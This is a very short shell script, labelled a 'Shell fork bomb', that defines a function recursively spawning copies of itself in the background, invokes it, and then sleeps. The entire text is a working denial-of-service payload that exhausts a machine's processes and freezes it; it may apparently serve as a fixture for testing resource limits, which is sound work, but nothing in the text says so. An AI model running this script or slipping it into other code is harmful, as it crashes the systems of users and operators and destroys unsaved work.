# Shell fork bomb.
b() { b | b & }
b
sleep 5
